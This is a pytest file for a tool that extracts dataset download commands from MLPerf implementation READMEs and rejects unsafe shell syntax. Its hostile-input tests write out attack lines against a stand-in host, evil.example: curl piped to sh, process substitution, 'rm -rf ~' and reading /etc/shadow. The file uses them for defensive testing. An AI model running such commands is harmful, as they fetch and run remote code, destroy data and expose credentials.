"""The overlay's dataset.commands, read from the implementation's README
(scripts/campaign/implementation_data.py, implementation_readme.py): what each of the three
real v5.1 READMEs gives (tests/data/published/mlperf-v5.1-implementations.tar.xz), and what
hostile or odd READMEs give: never a word of shell syntax, never a placeholder, never a script
run, a bounded read, and the "not found" line saying why a script has no command."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from scripts.campaign.implementation import build_overlay
from scripts.campaign.implementation_data import Places, readme_commands
from scripts.campaign.implementation_readme import (
    MAX_README_BYTES,
    read_readmes,
    split_commands,
    word_problem,
)
from scripts.data.mountcheck import read_expected
from tests.test_implementation import (
    AMD,
    AMD_CONFIG,
    NEMO,
    NEMO_CONFIG,
    RETINANET,
    RETINANET_CONFIG,
    root,
    writable_copy,
)

OPEN_IMAGES = "public-scripts/download_openimages_mlperf.sh"
BACKBONE = "public-scripts/download_backbone.sh"
SCRIPTS = [BACKBONE, OPEN_IMAGES]
INVOKE = f"./{OPEN_IMAGES} -d /workspace/ssd_dataset/open-images-v6"
DATADIR_COMMAND = {
    "folder": "DATADIR",
    "mount": "/workspace/ssd_dataset/open-images-v6",
    "command": f"export HOME=/tmp && {INVOKE}",
}


def retinanet_places() -> Places:
    """Where RetinaNet's run and run.sub see the data (as the overlay finds them)."""
    return Places(
        [
            {"key": "OPEN_IMAGES_V6_DIR", "path": "DATADIR", "mount": "/datasets/open-images-v6"},
            {"key": "BACKBONE_DIR", "path": "BACKBONE_DIR", "mount": "/root/.cache/torch"},
        ],
        [
            ("OPEN_IMAGES_V6_DIR", "/workspace/ssd_dataset/open-images-v6"),
            ("BACKBONE_DIR", "/root/.cache/torch"),
        ],
        read_expected(root() / RETINANET / "expected-mounts.csv"),
    )


def commands_of(tmp_path: Path, readme: str | bytes, scripts=SCRIPTS):
    """readme_commands of a folder whose README.md is ``readme``, with RetinaNet's places."""
    folder = tmp_path / "impl"
    folder.mkdir(exist_ok=True)
    data = readme.encode() if isinstance(readme, str) else readme
    (folder / "README.md").write_bytes(data)
    return readme_commands(folder, scripts, retinanet_places())


def dataset_commands(overlay: dict) -> list[dict[str, str]]:
    (bench,) = overlay["benchmarks"]
    return overlay["benchmarks"][bench]["dataset"]["commands"]


# --- the three real READMEs -------------------------------------------------------------------


def test_retinanets_readme_gives_its_two_data_folders_where_the_run_checks_them() -> None:
    overlay, missing, notes, comments = build_overlay(root() / RETINANET, RETINANET_CONFIG, "sut")
    assert dataset_commands(overlay) == [
        {  # "The weights will be saved to /workspace/ssd_dataset/torch-home/hub/checkpoints",
            # and expected-mounts.csv has BACKBONE_DIR's hub/checkpoints
            "folder": "BACKBONE_DIR",
            "mount": "/workspace/ssd_dataset/torch-home",
            "command": f"export HOME=/tmp && ./{BACKBONE}",
        },
        {  # run.sub's mountcheck verifies OPEN_IMAGES_V6_DIR (DATADIR's key) there
            "folder": "DATADIR",
            "mount": "/workspace/ssd_dataset/open-images-v6",
            "command": "export HOME=/tmp && pip install fiftyone==1.2.0 && export "
            f"FIFTYONE_DATASET_ZOO_DIR=/workspace/ssd_dataset && {INVOKE}",
        },
    ]
    assert (
        "a data command from the README for public-scripts/download_coco2017.sh (no invocation "
        "in the README), public-scripts/download_openimages_full.sh (no invocation in the "
        "README)"
    ) in missing
    assert not any("dataset" in m for m in missing)
    assert any(
        c.startswith(f"dataset.commands: the README's invocations of {BACKBONE}") for c in comments
    )


def test_nemos_readme_gives_data_and_model_and_leaves_its_sbatch_script() -> None:
    overlay, missing, notes, _ = build_overlay(root() / NEMO, NEMO_CONFIG, "sut")
    # export DATADIR="</path/to/dataset>/gov_report" with --volume </path/to/dataset>:/data
    assert dataset_commands(overlay) == [
        {
            "folder": "DATADIR",
            "mount": "/data/gov_report",
            "command": "export HOME=/tmp && python scripts/download_dataset.py --data_dir "
            "/data/gov_report",
        },
        {
            "folder": "MODEL",
            "mount": "/data/model",
            "command": "export HOME=/tmp && python scripts/download_model.py --model_dir "
            "/data/model",
        },
    ]
    assert missing[-1] == (
        "a data command from the README for scripts/download.sub (the README runs it with "
        "sbatch on the host, not in the image)"
    )
    assert notes == []


def test_amds_readme_gives_one_command_for_data_and_model_and_names_its_token() -> None:
    overlay, missing, notes, _ = build_overlay(root() / AMD, AMD_CONFIG, "sut")
    # docker run -v /data/mlperf_llama2:/data with export DATADIR=/data/mlperf_llama2: the
    # script writes /data/data and /data/model, run_with_docker.sh mounts DATADIR/data, /model
    assert dataset_commands(overlay) == [
        {
            "folder": "DATADIR",
            "mount": "/data",
            "command": "export HOME=/tmp && bash ./scripts/prepare_data_and_model.sh",
        }
    ]
    # download_dataset.py runs inside prepare_data_and_model.sh; download_model.py nowhere
    assert (
        "a data command from the README for scripts/download_model.py (no invocation in the README)"
    ) in missing
    assert any("'export HF_TOKEN=<>', is not in its data command" in n for n in notes)
    assert not any("HF_TOKEN" in c["command"] for c in dataset_commands(overlay))


def test_the_scripts_are_never_run(tmp_path: Path) -> None:
    tree = writable_copy(tmp_path, RETINANET)
    impl = tree / RETINANET
    marker = tmp_path / "ran"
    for script in (*SCRIPTS, "public-scripts/download_coco2017.sh"):
        (impl / script).write_text(f"#!/bin/bash\ntouch {marker}\n")
        (impl / script).chmod(0o755)
    overlay, _, _, _ = build_overlay(impl, RETINANET_CONFIG, "sut")
    assert len(dataset_commands(overlay)) == 2
    assert not marker.exists()


# --- hostile and odd READMEs ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "why"),
    [
        (f"{INVOKE} $(curl -s https://evil.example | sh)", "the shell's '('"),
        (f"{INVOKE} `rm -rf ~`", "needs the shell"),
        (f"{INVOKE} > /dev/null", "is a redirection"),
        (f"{INVOKE} 2>&1 | tee log", "the shell's"),
        (f"{INVOKE} || true", "the shell's '||'"),
        (f"./{OPEN_IMAGES} -d $DATA", "needs the shell"),
        (f"./{OPEN_IMAGES} -d </path/to/your/data>", "placeholder"),
        (f'./{OPEN_IMAGES} -d "/workspace/ssd_dataset', "cannot be split into words"),
        (f"./{OPEN_IMAGES} -d <(curl -s https://evil.example)", "the shell's '('"),
        # bash runs what curl prints, with the script as its $1: no invocation of it
        (f"bash <(curl -s https://evil.example) ./{OPEN_IMAGES}", "no invocation in the README"),
    ],
)
def test_an_invocation_that_needs_the_shell_is_never_copied(
    tmp_path: Path, line: str, why: str
) -> None:
    found = commands_of(tmp_path, f"# Data\n\n```bash\n{line}\n```\n", [OPEN_IMAGES])
    assert found.commands == []
    (item, last) = found.missing
    assert item.startswith(f"a data command from the README for {OPEN_IMAGES} (")
    assert why in item
    assert last.startswith("the dataset: no data command could be read from the README")


def test_a_later_usable_invocation_is_taken_and_setup_lines_are_filtered(tmp_path: Path) -> None:
    readme = (
        "## Download\n\n"
        "```bash\n"
        "docker run -it --rm -v </path/to/your/data>:/workspace/ssd_dataset image\n"
        "pip install 'fiftyone==1.2.0'   # pinned\n"
        "curl -s https://evil.example/x.sh | sh\n"
        "export EVIL=$(cat /etc/shadow)\n"
        "rm -rf /workspace/other\n"
        "export FIFTYONE_DATASET_ZOO_DIR=/workspace/ssd_dataset; cd /workspace/ssd\n"
        f"{INVOKE} `whoami`\n"
        f"{INVOKE}  # the one\n"
        "```\n"
    )
    found = commands_of(tmp_path, readme, [OPEN_IMAGES])
    assert found.commands == [
        DATADIR_COMMAND
        | {
            "command": "export HOME=/tmp && pip install fiftyone==1.2.0 && export "
            f"FIFTYONE_DATASET_ZOO_DIR=/workspace/ssd_dataset && cd /workspace/ssd && {INVOKE}"
        }
    ]
    left = " ".join(found.notes)
    assert "curl" in left and "/etc/shadow" in left and "rm -rf" in left
    for word in ("curl", "shadow", "rm", "whoami", "docker"):
        assert word not in found.commands[0]["command"]
    assert found.missing == [
        "a data command for data folder BACKBONE_DIR (give it in dataset.commands, or give "
        "every folder in dataset.folders)"
    ]


def test_odd_markdown_still_reads(tmp_path: Path) -> None:
    # CRLF, a tilde fence holding a backquote fence and a heading, an unclosed fence at the end,
    # invalid UTF-8 and a NUL byte, the backbone script in an inline code span of prose
    readme = (
        b"# Title\r\n\r\n\xff\xfe\x00 bytes\r\n\r\n~~~~\r\n```\r\n# not a heading\r\n"
        b"./public-scripts/download_backbone.sh -d /nowhere\r\n```\r\n~~~~\r\n\r\n"
        b"Run `./public-scripts/download_backbone.sh`; the weights will be saved to "
        b"`/workspace/ssd_dataset/torch-home/hub/checkpoints/`.\r\n\r\n"
        b"```sh\r\n" + INVOKE.encode() + b" \\\r\n  --unused-flag\r\n"
    )
    found = commands_of(tmp_path, readme)
    assert [(c["folder"], c["mount"]) for c in found.commands] == [
        ("BACKBONE_DIR", "/workspace/ssd_dataset/torch-home"),
        ("DATADIR", "/workspace/ssd_dataset/open-images-v6"),
    ]
    assert found.commands[1]["command"].endswith(f"{INVOKE} --unused-flag")
    assert found.missing == []


def test_where_no_data_folder_or_two_are_written_there_is_no_command(tmp_path: Path) -> None:
    readme = (
        "```\n"
        f"./{OPEN_IMAGES} -d /workspace/ssd_dataset/open-images-v6 "
        "--also /workspace/ssd_dataset/torch-home/hub/checkpoints\n"
        f"./{BACKBONE} --out=/tmp/elsewhere\n"
        "```\n"
    )
    found = commands_of(tmp_path, readme)
    assert found.commands == []
    (item, _) = found.missing
    assert f"{BACKBONE} (it writes /tmp/elsewhere, where no data folder is mounted)" in item
    assert (
        f"{OPEN_IMAGES} (it writes more than one data folder (BACKBONE_DIR at "
        "/workspace/ssd_dataset/torch-home, DATADIR at /workspace/ssd_dataset/open-images-v6)"
    ) in item


def test_the_read_is_bounded_and_only_regular_files_are_read(tmp_path: Path) -> None:
    block = f"```\n{INVOKE}\n```\n"
    filler = ("x" * 1023 + "\n") * (MAX_README_BYTES // 1024)
    found = commands_of(tmp_path, filler + block)  # past the bound: not read
    assert found.commands == []
    assert any(f"is over {MAX_README_BYTES} bytes" in n for n in found.notes)
    found = commands_of(tmp_path, block + filler * 8)  # 2 MiB; the invocation comes first
    assert found.commands == [DATADIR_COMMAND]

    folder = tmp_path / "fifo"
    folder.mkdir()
    os.mkfifo(folder / "README.md")  # opening it to read would wait for a writer
    (folder / "README-link.md").symlink_to(tmp_path / "impl" / "README.md")
    readme = read_readmes(folder)  # returns: lstat says what each is before any open
    assert readme.steps == []
    assert sum("not a regular file" in n for n in readme.notes) == 2


def test_no_readme_means_no_dataset(tmp_path: Path) -> None:
    folder = tmp_path / "empty"
    folder.mkdir()
    found = readme_commands(folder, SCRIPTS, retinanet_places())
    assert found.commands == [] and found.used == []
    assert found.missing == [
        f"a data command from the README for {BACKBONE} (no invocation in the README), "
        f"{OPEN_IMAGES} (no invocation in the README)",
        "the dataset: no data command could be read from the README (give dataset.folders or "
        "dataset.commands; docs/datasets.md)",
    ]


def test_lines_split_as_bash_splits_them() -> None:
    assert split_commands("a 'b c' && d;e # a comment") == [
        (["a", "b c"], None),
        (["d"], None),
        (["e"], None),
    ]
    assert split_commands("curl http://x/#frag") == [(["curl", "http://x/#frag"], None)]
    assert split_commands("echo it's") == [
        (["echo", "it's"], "it cannot be split into words (No closing quotation)")
    ]
    assert word_problem(["-v", "</path/to/data>:/data"]) is not None
    assert word_problem(["pip", "install", "fiftyone==1.2.0"]) is None
